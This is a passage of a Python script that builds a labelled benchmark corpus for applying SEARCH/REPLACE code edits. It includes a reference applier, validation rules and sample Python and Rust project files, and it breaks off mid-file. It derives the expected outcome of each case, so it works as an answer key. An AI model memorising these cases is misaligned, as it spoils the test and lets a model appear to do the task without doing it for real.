#!/usr/bin/env python3
"""Generate the labelled SEARCH/REPLACE edit corpus (tuning.json + heldout.json).

Stdlib only, deterministic.  Every case is authored here as Python data:

* ``files``    - the project before the edit,
* ``parts``    - prose strings and Blk/Whole objects, rendered into the model's ``answer``,
* ``edits``    - literal (path, old, new) replacements that define ``expected``
                 (each ``old`` must occur exactly once), plus ``creates`` for new files.

``expected`` is computed ONLY from ``edits``/``creates``.  As an independent cross-check a
small reference applier (``ref_apply``) re-derives the outcome of every block from the
labelling rules in README.md, and the script asserts that both agree, that every block's
outcome tag (``expect``) is right, and a few more invariants (see ``validate``).

Run:  python3 make_corpus.py      (writes tuning.json, heldout.json, README.md next to it)
"""

from __future__ import annotations

import json
import os
import posixpath
import random
import re

SEED = 20240611
HERE = os.path.dirname(os.path.abspath(__file__))
WHOLE_FILE_LIMIT = 2048  # bytes; whole-file fallback only for files smaller than this
MIN_NONBLANK = 10        # SEARCH with fewer non-whitespace characters is refused


# --------------------------------------------------------------------------------------
# small text helpers
# --------------------------------------------------------------------------------------

def S(s: str) -> str:
    """Drop exactly one leading newline (lets snippets start on the line after ''')."""
    return s[1:] if s.startswith("\n") else s


def tabify(s: str) -> str:
    """Turn leading groups of 4 spaces into tabs."""
    out = []
    for line in s.splitlines(True):
        stripped = line.lstrip(" ")
        n = len(line) - len(stripped)
        out.append("\t" * (n // 4) + " " * (n % 4) + stripped)
    return "".join(out)


def shift(s: str, d: str) -> str:
    """Prefix every non-blank line with d (model over-indented by d)."""
    return "".join(d + l if l.strip() else l for l in s.splitlines(True))


def unshift(s: str, d: str) -> str:
    """Remove prefix d from every non-blank line (model under-indented by d)."""
    out = []
    for l in s.splitlines(True):
        if l.strip():
            assert l.startswith(d), (l, d)
            out.append(l[len(d):])
        else:
            out.append(l)
    return "".join(out)


def sub1(text: str, old: str, new: str) -> str:
    n = text.count(old)
    assert n == 1, f"snippet occurs {n} times: {old!r}"
    return text.replace(old, new)


def add_trailing_ws(text: str, line_contains: str, ws: str) -> str:
    lines = text.splitlines(True)
    hits = [i for i, l in enumerate(lines) if line_contains in l]
    assert len(hits) == 1, (line_contains, len(hits))
    i = hits[0]
    lines[i] = lines[i].rstrip("\n") + ws + "\n"
    return "".join(lines)


def no_final_newline(text: str) -> str:
    assert text.endswith("\n")
    return text[:-1]


LANG = {".py": "python", ".rs": "rust", ".toml": "toml", ".md": "markdown", ".json": "json"}


def lang_of(path: str) -> str:
    return LANG.get(os.path.splitext(path)[1], "")


# --------------------------------------------------------------------------------------
# blocks and rendering
# --------------------------------------------------------------------------------------

class Blk:
    """One SEARCH/REPLACE block.

    expect: "apply:<strategy>" with strategy in exact|indent|blank|ellipsis|ws|create,
            or "refuse:<reason>" with reason in ambiguous|short|nomatch|missing-file|path.
    style:  how the path is written: plain | backtick | bold | hash | filecolon |
            fence (on the opening fence line) | none (omitted, carried over).
    fence:  "```", "~~~" or None (no fence at all).
    mk:     lengths of the <<<, === and >>> markers.
    """

    def __init__(self, path, search, replace, expect, *, style="plain", fence="```",
                 lang=None, mk=(7, 7, 7), allow_multi=False):
        assert search == "" or search.endswith("\n"), repr(search)
        assert replace == "" or replace.endswith("\n"), repr(replace)
        self.path, self.search, self.replace, self.expect = path, search, replace, expect
        self.style, self.fence = style, fence
        self.lang = lang_of(path) if lang is None else lang
        self.mk = mk
        self.allow_multi = allow_multi  # the lenient whitespace-free scan may see >1 spot
        if style == "fence":
            assert fence, "path on fence line needs a fence"

    def render(self) -> str:
        out = []
        if self.style not in ("fence", "none"):
            out.append(fmt_path(self.path, self.style) + "\n")
        if self.fence:
            head = self.fence + self.lang
            if self.style == "fence":
                head += " " + self.path
            out.append(head + "\n")
        lt, eq, gt = self.mk
        out.append("<" * lt + " SEARCH\n")
        out.append(self.search)
        out.append("=" * eq + "\n")
        out.append(self.replace)
        out.append(">" * gt + " REPLACE\n")
        if self.fence:
            out.append(self.fence + "\n")
        return "".join(out)


class Whole:
    """Whole-file fallback: path line + fenced block with the complete new content."""

    def __init__(self, path, content, expect, *, style="plain", fence="```", lang=None):
        assert content.endswith("\n")
        self.path, self.content, self.expect = path, content, expect
        self.style, self.fence = style, fence
        self.lang = lang_of(path) if lang is None else lang

    def render(self) -> str:
        return (fmt_path(self.path, self.style) + "\n" + self.fence + self.lang + "\n"
                + self.content + self.fence + "\n")


def fmt_path(path: str, style: str) -> str:
    return {
        "plain": path,
        "backtick": f"`{path}`",
        "bold": f"**{path}**",
        "hash": f"# {path}",
        "filecolon": f"File: {path}",
    }[style]


def render_answer(parts) -> str:
    chunks = []
    for p in parts:
        if isinstance(p, str):
            chunks.append(p.strip("\n") + "\n")
        else:
            chunks.append(p.render())
    return "\n".join(chunks)


# --------------------------------------------------------------------------------------
# reference applier (cross-check only; expected comes from the literal edits)
# --------------------------------------------------------------------------------------

def is_blank(line: str) -> bool:
    return line.strip() == ""


def lead(line: str) -> str:
    body = line.rstrip("\n")
    return body[: len(body) - len(body.lstrip(" \t"))]


def nonws(s: str) -> int:
    return len(re.sub(r"\s", "", s))


def find_exact(fl, sl):
    n = len(sl)
    return [i for i in range(len(fl) - n + 1) if fl[i:i + n] == sl]


def find_indent(fl, sl):
    """Line-aligned windows where every non-blank SEARCH line differs from the file line
    by the same leading prefix d (added or removed)."""
    n = len(sl)
    firsts = [k for k, l in enumerate(sl) if not is_blank(l)]
    if not firsts:
        return []
    first = firsts[0]
    res = []
    for i in range(len(fl) - n + 1):
        win = fl[i:i + n]
        if any(is_blank(a) != is_blank(b) for a, b in zip(win, sl)):
            continue
        lf, ls = lead(win[first]), lead(sl[first])
        if lf == ls:
            continue
        if lf.startswith(ls):
            d = lf[len(ls):]
            if all(is_blank(s) or f == d + s for f, s in zip(win, sl)):
                res.append((i, "add", d))
        elif ls.startswith(lf):
            d = ls[len(lf):]
            if all(is_blank(s) or s == d + f for f, s in zip(win, sl)):
                res.append((i, "remove", d))
    return res


def reindent(rl, kind, d):
    out = []
    for l in rl:
        if is_blank(l):
            out.append(l)
        elif kind == "add":
            out.append(d + l)
        else:
            assert l.startswith(d), f"REPLACE line cannot be de-indented by {d!r}: {l!r}"
            out.append(l[len(d):])
    return out


def norm_ws(line: str) -> str:
    body = line.rstrip("\n")
    if not body.strip():
        return ""
    ld = lead(body)
    return ld + re.sub(r"[ \t]+", " ", body[len(ld):].rstrip(" \t"))


def find_ws(fl, sl):
    n = len(sl)
    ns = [norm_ws(l) for l in sl]
    nf = [norm_ws(l) for l in fl]
    return [i for i in range(len(fl) - n + 1) if nf[i:i + n] == ns]


def lenient_count(text: str, search: str) -> int:
    """Most forgiving scan: ignore blank lines and ALL whitespace."""
    s = [re.sub(r"\s", "", l) for l in search.splitlines() if l.strip() and l.strip() != "..."]
    f = [re.sub(r"\s", "", l) for l in text.splitlines() if l.strip()]
    n = len(s)
    if n == 0:
        return 0
    return sum(1 for i in range(len(f) - n + 1) if f[i:i + n] == s)


def is_ell(line: str) -> bool:
    return line.rstrip("\n") == "..."


def split_ell(lines):
    pieces, cur = [], []
    for l in lines:
        if is_ell(l):
            pieces.append(cur)
            cur = []
        else:
            cur.append(l)
    pieces.append(cur)
    return pieces


def ref_edit(text: str, search: str, replace: str):
    """Return (tag, new_text).  tag = apply:<strategy> | refuse:<reason>."""
    fl = text.splitlines(True)
    sl = search.splitlines(True)
    rl = replace.splitlines(True)
    n = len(sl)

    def done(strategy, matches, build):
        if len(matches) > 1:
            return "refuse:ambiguous", None
        return "apply:" + strategy, "".join(build(matches[0]))

    m = find_exact(fl, sl)
    if m:
        return done("exact", m, lambda i: fl[:i] + rl + fl[i + n:])
    m = find_indent(fl, sl)
    if m:
        return done("indent", m, lambda t: fl[:t[0]] + reindent(rl, t[1], t[2]) + fl[t[0] + n:])
    k1 = 0
    while k1 < n and is_blank(sl[k1]):
        k1 += 1
    k2 = 0
    while k2 < n - k1 and is_blank(sl[n - 1 - k2]):
        k2 += 1
    if (k1 or k2) and k1 + k2 < n:
        s2 = sl[k1:n - k2]
        r2 = list(rl)
        a = 0
        while a < k1 and r2 and is_blank(r2[0]):
            r2.pop(0)
            a += 1
        b = 0
        while b < k2 and r2 and is_blank(r2[-1]):
            r2.pop()
            b += 1
        m = find_exact(fl, s2)
        if m:
            return done("blank", m, lambda i: fl[:i] + r2 + fl[i + len(s2):])
    if any(is_ell(l) for l in sl):
        sp, rp = split_ell(sl), split_ell(rl)
        if len(sp) != len(rp) or any(not p for p in sp):
            return "refuse:nomatch", None
        spots = []
        for p in sp:
            mm = find_exact(fl, p)
            if len(mm) == 0:
                return "refuse:nomatch", None
            if len(mm) > 1:
                return "refuse:ambiguous", None
            spots.append(mm[0])
        assert spots == sorted(spots)
        out = list(fl)
        for p, r, i in sorted(zip(sp, rp, spots), key=lambda t: -t[2]):
            out[i:i + len(p)] = r
        return "apply:ellipsis", "".join(out)
    m = find_ws(fl, sl)
    if m:
        return done("ws", m, lambda i: fl[:i] + rl + fl[i + n:])
    return "refuse:nomatch", None


def bad_path(p: str) -> bool:
    if p.startswith("/") or p.startswith("\\") or re.match(r"^[A-Za-z]:", p) or p.startswith("~"):
        return True
    norm = posixpath.normpath(p)
    if norm == ".." or norm.startswith("../"):
        return True
    if ".git" in norm.split("/"):
        return True
    return False


def ref_apply(state: dict, b):
    state = dict(state)
    if bad_path(b.path):
        return "refuse:path", state
    if isinstance(b, Whole):
        if b.path in state and len(state[b.path].encode()) < WHOLE_FILE_LIMIT:
            state[b.path] = b.content
            return "apply:whole", state
        return "refuse:whole-too-big", state
    if b.path not in state:
        if b.search == "":
            state[b.path] = b.replace
            return "apply:create", state
        return "refuse:missing-file", state
    assert b.search != "", "empty SEARCH on an existing file is not part of the corpus"
    if nonws(b.search) < MIN_NONBLANK:
        return "refuse:short", state
    tag, new = ref_edit(state[b.path], b.search, b.replace)
    if new is not None:
        state[b.path] = new
    return tag, state


# --------------------------------------------------------------------------------------
# case registry + validation
# --------------------------------------------------------------------------------------

CASES = []
CATEGORIES = ["exact", "fence_and_markers", "indentation", "blank_lines", "elision",
              "whitespace", "ambiguous", "near_miss", "short", "wrong_file_and_paths",
              "whole_file", "mixed"]
REFUSAL_CATEGORIES = {"ambiguous", "near_miss"}


def case(name, category, files, parts, edits=(), creates=None):
    assert category in CATEGORIES, category
    assert 1 <= len(files) <= 3, name
    files = dict(files)
    expected = dict(files)
    for path, old, new in edits:
        if old is None:
            expected[path] = new
        else:
            expected[path] = sub1(expected[path], old, new)
    for path, content in (creates or {}).items():
        assert path not in expected
        expected[path] = content
    validate(name, category, files, parts, expected)
    CASES.append({"name": name, "category": category, "files": files,
                  "answer": render_answer(parts), "expected": expected})


def validate(name, category, files, parts, expected):
    assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", name), name
    blocks = [p for p in parts if not isinstance(p, str)]
    assert blocks, name
    state = dict(files)
    applied = 0
    for b in blocks:
        before = state
        tag, state = ref_apply(state, b)
        assert tag == b.expect, f"{name}: block for {b.path} -> {tag}, labelled {b.expect}"
        if tag.startswith("apply"):
            applied += 1
        # robustness checks against other reasonable readings of the rules
        if isinstance(b, Blk) and b.path in before and b.search:
            text = before[b.path]
            lc = lenient_count(text, b.search)
            has_ell = any(is_ell(l) for l in b.search.splitlines(True))
            if tag == "apply:exact":
                assert text.count(b.search) == 1, f"{name}: exact SEARCH not unique as substring"
            if tag in ("apply:indent", "apply:ws", "apply:ellipsis"):
                assert b.search not in text, f"{name}: SEARCH is a raw substring of the file"
            if tag.startswith("apply") and tag != "apply:ellipsis" and not b.allow_multi:
                assert lc == 1, f"{name}: lenient scan finds {lc} spots for an applied block"
            if tag == "refuse:nomatch":
                assert lc == 0, f"{name}: near miss matches a whitespace-free scan {lc}x"
            if tag == "refuse:ambiguous" and not has_ell:
                assert lc >= 2, f"{name}: ambiguous block but lenient scan finds {lc}"
            if tag == "refuse:short":
                assert nonws(b.search) < MIN_NONBLANK
    assert state == expected, f"{name}: reference applier disagrees with literal edits"
    if applied == 0:
        assert expected == files, name
    else:
        assert expected != files, name
    if category in REFUSAL_CATEGORIES:
        assert expected == files, name
    if category in ("exact", "fence_and_markers", "indentation", "whitespace", "whole_file"):
        assert all(b.expect.startswith("apply") for b in blocks) or category == "whole_file", name
    if category == "mixed":
        tags = {b.expect.split(":")[0] for b in blocks}
        assert tags == {"apply", "refuse"} and 2 <= len(blocks) <= 4, name


# --------------------------------------------------------------------------------------
# base project files
# --------------------------------------------------------------------------------------

PY_CALC = S(r'''
"""Tiny arithmetic helpers used by the CLI."""

from __future__ import annotations

import math


def add(a: float, b: float) -> float:
    return a + b


def sub(a: float, b: float) -> float:
    return a - b


def mul(a: float, b: float) -> float:
    return a * b


def div(a: float, b: float) -> float:
    if b == 0:
        raise ZeroDivisionError("division by zero")
    return a / b


def mean(values: list[float]) -> float:
    if not values:
        raise ValueError("mean of empty list")
    return sum(values) / len(values)


def stddev(values: list[float]) -> float:
    m = mean(values)
    var = sum((v - m) ** 2 for v in values) / len(values)
    return math.sqrt(var)
''')

PY_INVENTORY = S(r'''
from dataclasses import dataclass, field
from typing import Optional


class OutOfStock(Exception):
    pass


@dataclass
class Item:
    sku: str
    name: str
    price_cents: int
    quantity: int = 0

    def total_value(self) -> int:
        return self.price_cents * self.quantity


@dataclass
class Inventory:
    items: dict[str, Item] = field(default_factory=dict)

    def add(self, item: Item) -> None:
        if item.sku in self.items:
            self.items[item.sku].quantity += item.quantity
        else:
            self.items[item.sku] = item

    def remove(self, sku: str, quantity: int = 1) -> Item:
        item = self.items.get(sku)
        if item is None:
            raise KeyError(sku)
        if item.quantity < quantity:
            raise OutOfStock(f"only {item.quantity} of {sku} left")
        item.quantity -= quantity
        return item

    def find(self, name: str) -> Optional[Item]:
        for item in self.items.values():
            if item.name == name:
                return item
        return None

    def total_value(self) -> int:
        return sum(item.total_value() for item in self.items.values())

    def low_stock(self, threshold: int = 5) -> list[Item]:
        return [item for item in self.items.values() if item.quantity < threshold]
''')

PY_USERS = S(r'''
import logging
from typing import Optional

from .db import Database
from .models import Team, User

log = logging.getLogger(__name__)


class UserService:
    def __init__(self, db: Database) -> None:
        self.db = db

    def get_user(self, user_id: int) -> Optional[User]:
        row = self.db.fetch_one("SELECT * FROM users WHERE id = ?", (user_id,))
        if row is None:
            return None
        return User.from_row(row)

    def get_user_by_email(self, email: str) -> Optional[User]:
        row = self.db.fetch_one("SELECT * FROM users WHERE email = ?", (email,))
        if row is None:
            return None
        return User.from_row(row)

    def get_team(self, team_id: int) -> Optional[Team]:
        row = self.db.fetch_one("SELECT * FROM teams WHERE id = ?", (team_id,))
        if row is None:
            return None
        return Team.from_row(row)

    def deactivate(self, user_id: int) -> bool:
        user = self.get_user(user_id)
        if user is None:
            log.warning("deactivate: no user %s", user_id)
            return False
        self.db.execute("UPDATE users SET active = 0 WHERE id = ?", (user_id,))
        return True

    def rename(self, user_id: int, name: str) -> bool:
        user = self.get_user(user_id)
        if user is None:
            log.warning("rename: no user %s", user_id)
            return False
        self.db.execute("UPDATE users SET name = ? WHERE id = ?", (name, user_id))
        return True
''')

PY_TEST_PARSER = S(r'''
import pytest

from parser import ParseError, parse


def make_input(text):
    return text.strip() + "\n"


def test_parse_empty():
    result = parse(make_input(""))
    assert result == []


def test_parse_single():
    result = parse(make_input("a = 1"))
    assert result == [("a", 1)]


def test_parse_multiple():
    result = parse(make_input("a = 1\nb = 2"))
    assert result == [("a", 1), ("b", 2)]


def test_parse_invalid():
    with pytest.raises(ParseError):
        parse(make_input("a = "))


def test_parse_comment():
    result = parse(make_input("# hi\na = 1"))
    assert result == [("a", 1)]


class TestWhitespace:
    def make_input(self, text):
        return text.strip() + "\n"

    def test_tabs(self):
        result = parse(self.make_input("a\t=\t1"))
        assert result == [("a", 1)]

    def test_spaces(self):
        result = parse(self.make_input("a   =   1"))
        assert result == [("a", 1)]
''')

PY_CLI = S(r'''
import argparse
import sys

from . import __version__
from .runner import run


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="agent", description="Run the coding agent.")
    parser.add_argument("task", help="task description")
    parser.add_argument("--model", default="gpt-4o", help="model name")
    parser.add_argument("--max-steps", type=int, default=20, help="step budget")
    parser.add_argument("--verbose", action="store_true", help="log every step")
    parser.add_argument("--version", action="version", version=__version__)
    return parser


def main(argv=None) -> int:
    args = build_parser().parse_args(argv)
    try:
        result = run(args.task, model=args.model, max_steps=args.max_steps, verbose=args.verbose)
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return 130
    if not result.ok:
        print(result.error, file=sys.stderr)
        return 1
    print(result.summary)
    return 0


if __name__ == "__main__":
    sys.exit(main())
''')

PY_REPORT_TABS = tabify(S(r'''
import csv


class Report:
    def __init__(self, title):
        self.title = title
        self.rows = []

    def add_row(self, name, value):
        if value is None:
            value = 0
        self.rows.append((name, value))

    def total(self):
        return sum(v for _, v in self.rows)

    def write_csv(self, path):
        with open(path, "w", newline="") as fh:
            writer = csv.writer(fh)
            writer.writerow(["name", "value"])
            for name, value in self.rows:
                writer.writerow([name, value])
'''))

PY_CACHE = S(r'''
"""A small LRU cache with optional time-to-live."""

import time
from collections import OrderedDict
from typing import Any, Hashable, Optional


class LRUCache:
    """Least-recently-used cache.

    Entries older than ``ttl`` seconds are treated as missing.
    """

    def __init__(self, capacity: int = 128, ttl: Optional[float] = None) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        self.capacity = capacity
        self.ttl = ttl
        self._data: OrderedDict[Hashable, tuple[float, Any]] = OrderedDict()
        self.hits = 0
        self.misses = 0

    def get(self, key: Hashable, default: Any = None) -> Any:
        entry = self._data.get(key)
        if entry is None:
            self.misses += 1
            return default
        stamp, value = entry
        if self.ttl is not None and time.monotonic() - stamp > self.ttl:
            del self._data[key]
            self.misses += 1
            return default
        self._data.move_to_end(key)
        self.hits += 1
        return value

    def put(self, key: Hashable, value: Any) -> None:
        if key in self._data:
            self._data.move_to_end(key)
        self._data[key] = (time.monotonic(), value)
        while len(self._data) > self.capacity:
            self._data.popitem(last=False)

    def __contains__(self, key: Hashable) -> bool:
        return self.get(key, _MISSING) is not _MISSING

    def __len__(self) -> int:
        return len(self._data)

    def clear(self) -> None:
        self._data.clear()
        self.hits = 0
        self.misses = 0


_MISSING = object()
''')

PY_HTTP = S(r'''
import json
import logging
import time
import urllib.error
import urllib.request

log = logging.getLogger(__name__)

DEFAULT_HEADERS = {
    "Content-Type": "application/json",
    "Accept": "application/json",
}


class HttpError(Exception):
    def __init__(self, status: int, body: str) -> None:
        super().__init__(f"HTTP {status}: {body[:200]}")
        self.status = status
        self.body = body


def post_json(url: str, payload: dict, *, timeout: float = 30.0, retries: int = 3) -> dict:
    data = json.dumps(payload).encode("utf-8")
    delay = 1.0
    for attempt in range(retries + 1):
        req = urllib.request.Request(url, data=data, headers=DEFAULT_HEADERS, method="POST")
        try:
            with urllib.request.urlopen(req, timeout=timeout) as resp:
                return json.loads(resp.read().decode("utf-8"))
        except urllib.error.HTTPError as exc:
            body = exc.read().decode("utf-8", "replace")
            if exc.code < 500 or attempt == retries:
                raise HttpError(exc.code, body) from exc
            log.warning("server error %s, retrying in %.1fs", exc.code, delay)
        except urllib.error.URLError as exc:
            if attempt == retries:
                raise
            log.warning("network error %s, retrying in %.1fs", exc.reason, delay)
        time.sleep(delay)
        delay *= 2
    raise AssertionError("unreachable")


def get_json(url: str, *, timeout: float = 30.0) -> dict:
    req = urllib.request.Request(url, headers=DEFAULT_HEADERS, method="GET")
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.loads(resp.read().decode("utf-8"))
''')

PY_MODELS = S(r'''
from dataclasses import dataclass
from datetime import datetime
from typing import Any


@dataclass
class User:
    id: int
    email: str
    name: str
    active: bool = True

    @classmethod
    def from_row(cls, row: dict[str, Any]) -> "User":
        return cls(
            id=row["id"],
            email=row["email"],
            name=row["name"],
            active=bool(row.get("active", 1)),
        )

    def to_dict(self) -> dict[str, Any]:
        return {
            "id": self.id,
            "email": self.email,
            "name": self.name,
            "active": self.active,
        }


@dataclass
class Team:
    id: int
    name: str
    created_at: datetime

    @classmethod
    def from_row(cls, row: dict[str, Any]) -> "Team":
        return cls(
            id=row["id"],
            name=row["name"],
            created_at=datetime.fromisoformat(row["created_at"]),
        )

    def to_dict(self) -> dict[str, Any]:
        return {
            "id": self.id,
            "name": self.name,
            "created_at": self.created_at.isoformat(),
        }
''')

PY_SETTINGS = S(r'''
"""Runtime settings. Values can be overridden from the environment."""

import os

DEFAULT_TIMEOUT    = 30
MAX_RETRIES        = 3
BACKOFF_FACTOR     = 0.5
USER_AGENT         = "trae-agent/0.3"
LOG_LEVEL          = "INFO"
CACHE_DIR          = os.path.expanduser("~/.cache/trae")

PROVIDERS = {
    "openai":    {"base_url": "https://api.openai.com/v1",  "env": "OPENAI_API_KEY"},
    "anthropic": {"base_url": "https://api.anthropic.com",  "env": "ANTHROPIC_API_KEY"},
    "ollama":    {"base_url": "http://localhost:11434",     "env": None},
}


def env_override(name: str, default):
    raw = os.environ.get(f"TRAE_{name}")
    if raw is None:
        return default
    if isinstance(default, bool):
        return raw.lower() in ("1", "true", "yes")
    if isinstance(default, int):
        return int(raw)
    if isinstance(default, float):
        return float(raw)
    return raw
''')

PY_TEXT = S(r'''
import re
import unicodedata

_SLUG_RE = re.compile(r"[^a-z0-9]+")


def slugify(text: str) -> str:
    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    return _SLUG_RE.sub("-", text.lower()).strip("-")


def truncate(text: str, width: int, suffix: str = "...") -> str:
    if len(text) <= width:
        return text
    return text[: width - len(suffix)] + suffix


def indent_block(text: str, prefix: str = "    ") -> str:
    return "".join(prefix + line if line.strip() else line for line in text.splitlines(True))


def count_words(text: str) -> int:
    return len(text.split())
''')

PY_NAMES = S(r'''
import re

_INVALID = re.compile(r"[^a-z0-9_]")


def _clean(name):
    name = name.strip().lower()
    return _INVALID.sub("_", name)


class Registry:
    def __init__(self):
        self._items = {}

    def _clean(self, name):
        name = name.strip().lower()
        return _INVALID.sub("_", name)

    def register(self, name, item):
        key = self._clean(name)
        if key in self._items:
            raise KeyError(f"already registered: {key}")
        self._items[key] = item

    def get(self, name):
        return self._items[self._clean(name)]
''')

PY_COUNTER = S(r'''
"""Line and word counting helpers."""


def count_lines(path):
    n = 0
    with open(path, encoding="utf-8") as fh:
        for _ in fh:
            n += 1
    return n


def count_words(path, limit=None):
    words = 0
    with open(path, encoding="utf-8") as fh:
        for line in fh:
            words += len(line.split())
            if limit is not None and words >= limit:
                break
    return words
''')

PY_PAGER = S(r'''
import shutil


def page_size():
    width, height = shutil.get_terminal_size((80, 24))
    limit = 100
    return min(limit, height - 2)


def paginate(lines):
    size = page_size()
    for start in range(0, len(lines), size):
        yield lines[start:start + size]
''')

PY_HISTORY = S(r'''
"""Conversation history trimming."""


def trim_history(messages):
    limit = 1000
    if len(messages) <= limit:
        return messages
    system = [m for m in messages if m["role"] == "system"]
    return system + messages[-(limit - len(system)):]
''')

PY_FIND_CONFIG = S(r'''
from pathlib import Path

CANDIDATES = ("trae.toml", ".trae.toml", "pyproject.toml")


def find_config(start: Path):
    for directory in [start, *start.parents]:
        for name in CANDIDATES:
            path = directory / name
            if path.is_file():
                return path
    return None
''')

PY_ENVS = S(r'''
class Base:
    DEBUG    = False
    TIMEOUT  = 30
    WORKERS  = 4


class Dev(Base):
    DEBUG    = True
    TIMEOUT  = 300
    WORKERS  = 1


class Prod(Base):
    DEBUG    = False
    TIMEOUT  = 30
    WORKERS  = 16
''')

PY_DEFAULTS = (
    "# Defaults for the agent loop.\n"
    "STEP_LIMIT = 40\t# tool calls before we give up\n"
    "TEMPERATURE = 0.0\t# deterministic by default\n"
    "STREAM = True\t# print tokens as they arrive\n"
    "\n"
    "\n"
    "def describe():\n"
    "    return f\"steps={STEP_LIMIT} temperature={TEMPERATURE} stream={STREAM}\"\n"
)

PY_TEST_CLIENT = S(r'''
import pytest

from client.http import HttpError, get_json, post_json


def make_server(responses):
    server = FakeServer()
    for status, body in responses:
        server.queue(status, body)
    return server


def test_post_json_ok(monkeypatch):
    server = make_server([(200, '{"ok": true}')])
    monkeypatch.setattr("urllib.request.urlopen", server.urlopen)
    assert post_json("http://x/api", {"a": 1}) == {"ok": True}


def test_post_json_retries_on_500(monkeypatch):
    server = make_server([(500, "boom"), (200, '{"ok": true}')])
    monkeypatch.setattr("urllib.request.urlopen", server.urlopen)
    monkeypatch.setattr("time.sleep", lambda s: None)
    assert post_json("http://x/api", {}) == {"ok": True}
    assert server.calls == 2


def test_post_json_gives_up(monkeypatch):
    server = make_server([(500, "boom")] * 4)
    monkeypatch.setattr("urllib.request.urlopen", server.urlopen)
    monkeypatch.setattr("time.sleep", lambda s: None)
    with pytest.raises(HttpError):
        post_json("http://x/api", {}, retries=3)


def make_server(responses):
    server = FakeServer()
    for status, body in responses:
        server.queue(status, body)
    return server


def test_get_json(monkeypatch):
    server = make_server([(200, "[1, 2, 3]")])
    monkeypatch.setattr("urllib.request.urlopen", server.urlopen)
    assert get_json("http://x/items") == [1, 2, 3]
''')

PY_STREAMS = S(r'''
from typing import Protocol


class Reader(Protocol):
    def read(self, n: int = -1) -> bytes:
        ...

    def close(self) -> None:
        ...


class Writer(Protocol):
    def write(self, data: bytes) -> int:
        ...

    def flush(self) -> None:
        ...


def copy(src: Reader, dst: Writer, chunk: int = 65536) -> int:
    total = 0
    while True:
        data = src.read(chunk)
        if not data:
            break
        total += dst.write(data)
    dst.flush()
    return total
''')

PY_MESSAGES = S(r'''
"""User-facing messages. Keep them short; they are shown in the status bar."""

MESSAGES = {
    "en": {
        "thinking": "Thinking…",
        "done": "Done ✓",
        "failed": "Failed ✗",
    },
    "fr": {
        "thinking": "Réflexion…",
        "done": "Terminé ✓",
        "failed": "Échec ✗",
    },
    "ja": {
        "thinking": "考え中…",
        "done": "完了 ✓",
        "failed": "失敗 ✗",
    },
}


def message(lang: str, key: str) -> str:
    table = MESSAGES.get(lang, MESSAGES["en"])
    return table.get(key, MESSAGES["en"][key])
''')

RS_LEXER = S(r'''
use std::iter::Peekable;
use std::str::Chars;

#[derive(Debug, Clone, PartialEq)]
pub enum Token {
    Number(f64),
    Ident(String),
    Plus,
    Minus,
    Star,
    Slash,
    LParen,
    RParen,
    Eof,
}

pub struct Lexer<'a> {
    chars: Peekable<Chars<'a>>,
}

impl<'a> Lexer<'a> {
    pub fn new(input: &'a str) -> Self {
        Lexer { chars: input.chars().peekable() }
    }

    fn skip_whitespace(&mut self) {
        while let Some(&c) = self.chars.peek() {
            if c.is_whitespace() {
                self.chars.next();
            } else {
                break;
            }
        }
    }

    fn number(&mut self, first: char) -> Token {
        let mut s = String::from(first);
        while let Some(&c) = self.chars.peek() {
            if c.is_ascii_digit() || c == '.' {
                s.push(c);
                self.chars.next();
            } else {
                break;
            }
        }
        Token::Number(s.parse().unwrap())
    }

    fn ident(&mut self, first: char) -> Token {
        let mut s = String::from(first);
        while let Some(&c) = self.chars.peek() {
            if c.is_alphanumeric() || c == '_' {
                s.push(c);
                self.chars.next();
            } else {
                break;
            }
        }
        Token::Ident(s)
    }

    pub fn next_token(&mut self) -> Token {
        self.skip_whitespace();
        match self.chars.next() {
            None => Token::Eof,
            Some('+') => Token::Plus,
            Some('-') => Token::Minus,
            Some('*') => Token::Star,
            Some('/') => Token::Slash,
            Some('(') => Token::LParen,
            Some(')') => Token::RParen,
            Some(c) if c.is_ascii_digit() => self.number(c),
            Some(c) if c.is_alphabetic() => self.ident(c),
            Some(c) => panic!("unexpected character {c:?}"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lexes_number() {
        let mut lx = Lexer::new("42");
        assert_eq!(lx.next_token(), Token::Number(42.0));
        assert_eq!(lx.next_token(), Token::Eof);
    }

    #[test]
    fn lexes_ident() {
        let mut lx = Lexer::new("foo");
        assert_eq!(lx.next_token(), Token::Ident("foo".into()));
        assert_eq!(lx.next_token(), Token::Eof);
    }
}
''')

RS_STACK = S(r'''
use std::fmt;

#[derive(Debug, Default)]
pub struct Stack<T> {
    items: Vec<T>,
}

impl<T> Stack<T> {
    pub fn new() -> Self {
        Stack { items: Vec::new() }
    }

    pub fn push(&mut self, item: T) {
        self.items.push(item);
    }

    pub fn pop(&mut self) -> Option<T> {
        self.items.pop()
    }

    pub fn peek(&self) -> Option<&T> {
        self.items.last()
    }

    pub fn len(&self) -> usize {
        self.items.len()
    }

    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }
}

impl<T: fmt::Display> fmt::Display for Stack<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "[")?;
        for (i, item) in self.items.iter().enumerate() {
            if i > 0 {
                write!(f, ", ")?;
            }
            write!(f, "{item}")?;
        }
        write!(f, "]")
    }
}
''')

RS_SHAPES = S(r'''
pub trait Shape {
    fn area(&self) -> f64;
    fn perimeter(&self) -> f64;
    fn name(&self) -> &'static str;
}

pub struct Circle {
    pub radius: f64,
}

pub struct Rect {
    pub width: f64,
    pub height: f64,
}

pub struct Square {
    pub side: f64,
}

impl Shape for Circle {
    fn area(&self) -> f64 {
        std::f64::consts::PI * self.radius * self.radius
    }

    fn perimeter(&self) -> f64 {
        2.0 * std::f64::consts::PI * self.radius
    }

    fn name(&self) -> &'static str {
        "circle"
    }
}

impl Shape for Rect {
    fn area(&self) -> f64 {
        self.width * self.height
    }

    fn perimeter(&self) -> f64 {
        2.0 * (self.width + self.height)
    }

    fn name(&self) -> &'static str {
        "rect"
    }
}

impl Shape for Square {
    fn area(&self) -> f64 {
        self.side * self.side
    }

    fn perimeter(&self) -> f64 {
        4.0 * self.side
    }

